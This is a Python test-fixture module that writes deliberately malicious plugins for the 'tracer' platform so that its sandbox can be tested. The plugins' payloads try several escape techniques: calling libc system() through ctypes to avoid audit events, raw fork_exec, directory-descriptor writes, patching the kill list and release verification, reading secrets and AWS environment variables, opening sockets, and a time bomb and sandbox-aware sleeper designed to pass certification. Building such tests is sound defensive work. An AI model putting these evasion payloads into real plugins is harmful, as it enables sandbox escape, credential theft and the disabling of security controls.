"""Malicious third-party plugins, one per attack class, written as an attacker would.

Each is a working domain plugin (``mal/<name>``: a record schema, reference data, features
and sentences) whose ``payload()`` runs at import, in ``tracer_features``, in
``tracer_train`` where it has one, and in ``tracer_explain``. A payload that escaped
would leave a marker file in the test's markers folder (outside every runner's view) or
return what it read; every attempt's result travels back in the explanation summary so
the test can report what each attack achieved inside the box.

These are not the certification fixtures in ``tests/fixtures/malicious``: certification
catches most of those. Several of these are built to pass certification (a time bomb, a
sandbox-aware sleeper, libc reached through ``ctypes`` without a ``dlopen``).
"""

from __future__ import annotations

import json
import textwrap
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

COMMON = '''
import json, os, sys, threading, time
import numpy as np
import pandas as pd
from pydantic import BaseModel, Field
from tracer import Domain, Explanation, hookimpl
from tracer.explain import rank_factors

MARKERS = {markers!r}
SECRETS = {secrets!r}
PORT = {port!r}
NAME = {name!r}
CALLS = {{"n": 0}}


class Rec(BaseModel):
    signal: float = Field(description="the informative column")
    noise: float = Field(description="pure noise")


def frame():
    rng = np.random.default_rng(3)
    n = 400
    s = rng.normal(size=n)
    y = (rng.random(n) < 1 / (1 + np.exp(-2 * s))).astype(int)
    return pd.DataFrame({{"seq": np.arange(n), "signal": s, "noise": rng.normal(size=n),
                          "outcome": y}})


def marker(tag):
    """What an escaped payload does: leave a file where the host would see it."""
    path = os.path.join(MARKERS, f"{{NAME}}-{{tag}}")
    with open(path, "w") as f:
        f.write("escaped")
    return path


def attempt(where):
    CALLS["n"] += 1
    try:
        got = payload(where)
    except BaseException as exc:
        got = {{"blocked": f"{{type(exc).__name__}}: {{exc}}"[:200]}}
    return got


@hookimpl
def tracer_domains():
    return [Domain(name={domain!r}, version="1.0.0", title=NAME,
                   record=Rec, label="outcome", order_by="seq", load_reference=frame,
                   primary_metric="roc_auc", certification_threshold=0.6,
                   train_params={{"num_boost_round": 20, "max_depth": 2}})]


@hookimpl
def tracer_features(domain, records, state):
    attempt("features")
    return pd.DataFrame({{"signal": records["signal"], "noise": records["noise"]}})


@hookimpl
def tracer_explain(domain, prediction):
    got = attempt("explain")
    factors = rank_factors(prediction, lambda f, v, c: f"{{f}} is {{v:.2f}}")
    return Explanation(factors=factors, summary=json.dumps(got, default=str)[:900])
'''

PAYLOADS = {
    # libc's system() through ctypes.pythonapi: no dlopen, so no audit event; the kernel
    # must refuse the fork/exec underneath
    "ctypes_libc": '''
def payload(where):
    import ctypes
    rc = ctypes.pythonapi.system(f"touch {MARKERS}/{NAME}-{where}".encode())
    return {"system_rc": rc}
''',
    # _posixsubprocess.fork_exec raises no audit event at all
    "posix_subprocess": '''
def payload(where):
    import _posixsubprocess
    args = [b"/bin/sh", b"-c", f"touch {MARKERS}/{NAME}-{where}".encode()]
    r, w = os.pipe()
    pid = _posixsubprocess.fork_exec(args, [b"/bin/sh"], True, (w,), None, None, -1, -1,
                                     -1, -1, -1, -1, r, w, True, False, -1, None, None,
                                     None, -1, None, False)
    return {"pid": pid}
''',
    # a write through a directory descriptor, judged by a relative name
    "dir_fd_write": '''
def payload(where):
    out = {}
    for folder in (MARKERS, os.path.dirname(MARKERS), "/", "/plugin", os.getcwd(), "/scratch"):
        fds = []
        try:
            fds.append(os.open(folder, os.O_RDONLY | os.O_DIRECTORY))
            fds.append(os.open(f"{NAME}-{where}", os.O_CREAT | os.O_WRONLY, 0o644,
                               dir_fd=fds[0]))
            os.write(fds[1], b"escaped")
            out[folder] = "WROTE" if folder != "/scratch" else "scratch ok"
        except OSError as exc:
            out[folder] = f"{type(exc).__name__} {exc.errno}"
        for fd in fds:
            os.close(fd)
    return out
''',
    # patch the platform's own functions: the host's kill list, revocation, verification
    "patch_platform": '''
def payload(where):
    import tracer.host, tracer.features
    tracer.host.PluginHost.kill_list = lambda self: {}
    tracer.host.PluginHost.apply_kill_list = lambda self: []
    tracer.host.PluginHost.refresh_kill_list = lambda self: []
    tracer.features.compute_features = None
    patched = ["tracer.host", "tracer.features"]
    try:
        import tracer_registry.verify as verify
        import tracer_registry.revocation as revocation
        verify.verify_release = lambda *a, **k: None
        revocation.write_kill_list = lambda *a, **k: None
        patched.append("tracer_registry")
    except Exception as exc:
        patched.append(f"registry: {type(exc).__name__}")
    return {"patched": patched}
''',
    # read keys, the databases, other tenants' files, the environment, other processes
    "read_secrets": '''
def payload(where):
    read = []
    for path in SECRETS:
        try:
            with open(path, "rb") as f:
                read.append([path, f.read(300).decode(errors="replace")])
        except OSError:
            pass
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    env = sorted(k for k in os.environ if k.startswith(("TRACER", "AWS", "SECRET")))
    try:
        home = os.listdir(os.path.expanduser("~root"))
    except OSError:
        home = None
    return {"read": read, "env": env, "pids": pids, "root_home": home, "uid": os.getuid()}
''',
    # talk to the host network: a socket, and a raw socket() through libc
    "network": '''
def payload(where):
    import ctypes, socket
    out = {}
    try:
        s = socket.create_connection(("127.0.0.1", PORT), timeout=1)
        s.sendall(NAME.encode())
        out["connect"] = "CONNECTED"
    except OSError as exc:
        out["connect"] = type(exc).__name__
    out["raw_socket_fd"] = ctypes.pythonapi.socket(2, 1, 0)
    return out
''',
    # quiet for the first calls, then the payload (certification runs few calls)
    "time_bomb": '''
def payload(where):
    if CALLS["n"] < 15:
        return {"armed": CALLS["n"]}
    return {"marker": marker(where)}
''',
    # quiet wherever it thinks it is watched; the payload runs only where it believes it
    # is in a platform process (it never is)
    "sandbox_sleeper": '''
def payload(where):
    watched = os.getuid() == 65534 or os.path.exists("/plugin") or "TRACER_HOME" not in os.environ
    if watched:
        return {"quiet": True}
    return {"marker": marker(where)}
''',
    # a background thread that keeps working between calls
    "background_thread": '''
BEATS = {"n": 0}


def _beat():
    while True:
        BEATS["n"] += 1
        try:
            marker("thread")
        except OSError:
            pass
        time.sleep(0.05)


threading.Thread(target=_beat, daemon=True).start()


def payload(where):
    return {"beats": BEATS["n"], "pid": os.getpid()}
''',
}

#: the attacks that also run while the module is imported
AT_IMPORT = {"ctypes_libc", "posix_subprocess", "dir_fd_write", "read_secrets", "network"}


def make_attack(site: Path, name: str, *, markers: Path, secrets: list[str],
                port: int) -> str:
    """Write ``mal_<name>`` as an installed distribution under ``site``; its domain name."""
    module = f"mal_{name}"
    domain = f"mal/{name.replace('_', '-')}"
    source = textwrap.dedent(COMMON).format(markers=str(markers), secrets=secrets,
                                            port=port, name=name, domain=domain)
    source += textwrap.dedent(PAYLOADS[name])
    if name in AT_IMPORT:
        source += '\nIMPORT_RESULT = attempt("import")\n'
    (site / f"{module}.py").write_text(source)
    dist = f"tracer-mal-{name.replace('_', '-')}"
    info = site / f"{dist.replace('-', '_')}-1.0.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0.0\n"
                                   "Requires-Dist: tracer>=0.1\n")
    (info / "entry_points.txt").write_text(f"[tracer]\n{dist} = {module}\n")
    (info / "RECORD").write_text(f"{module}.py,,\n{info.name}/METADATA,,\n")
    return domain


def summaries(answers: list[dict]) -> list[dict]:
    return [json.loads(a["summary"]) for a in answers]
